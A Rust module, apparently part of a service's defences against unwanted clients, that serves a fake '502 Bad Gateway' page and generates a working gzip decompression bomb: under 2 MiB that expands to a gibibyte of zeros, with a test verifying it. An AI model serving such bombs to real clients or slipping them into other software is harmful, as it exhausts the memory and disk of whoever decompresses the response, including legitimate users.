//! Answers that are none: pages of a gateway in front of the service, and a body that unpacks to a gibibyte.

use std::io::Write;

use flate2::write::DeflateEncoder;
use flate2::{Compression, Crc};

/// What a gateway in front of the service shows.
pub(super) const PAGE: &str = "<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway</h1></center></body></html>";
/// Zeros in one piece of the bomb.
const PIECE_BYTES: usize = 1024 * 1024;
/// Pieces of the bomb: a gibibyte in all.
const PIECES: u32 = 1024;

/// A gzip stream of a gibibyte of zeros: one compressed piece, ended at a byte, again and again.
pub(super) fn gzip_bomb() -> Vec<u8> {
    const MEMORY: &str = "memory takes every write";
    let zeros = vec![0; PIECE_BYTES];
    // A flush ends the piece at a byte with nothing that a later one would refer to but zeros.
    let mut packer = DeflateEncoder::new(Vec::new(), Compression::best());
    packer.write_all(&zeros).expect(MEMORY);
    packer.flush().expect(MEMORY);
    let piece = packer.get_ref().clone();
    let (mut sum, mut one) = (Crc::new(), Crc::new());
    one.update(&zeros);
    let mut bomb = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
    for _ in 0..PIECES {
        bomb.extend_from_slice(&piece);
        sum.combine(&one);
    }
    // An empty last block, then checksum and length as RFC 1952 wants them.
    bomb.extend_from_slice(&[0x03, 0x00]);
    bomb.extend_from_slice(&sum.sum().to_le_bytes());
    bomb.extend_from_slice(&sum.amount().to_le_bytes());
    bomb
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn the_bomb_is_small_and_unpacks_to_a_gibibyte_of_zeros() {
        let bomb = gzip_bomb();
        assert!(bomb.len() < 2 * 1024 * 1024, "{}", bomb.len());
        let mut unpacker = flate2::read::GzDecoder::new(bomb.as_slice());
        let (mut chunk, mut total) = (vec![0; PIECE_BYTES], 0_u64);
        loop {
            let bytes = unpacker.read(&mut chunk).expect("sound to the checksum");
            if bytes == 0 {
                break;
            }
            assert!(chunk[..bytes].iter().all(|byte| *byte == 0));
            total += bytes as u64;
        }
        assert_eq!(total, 1 << 30);
    }
}
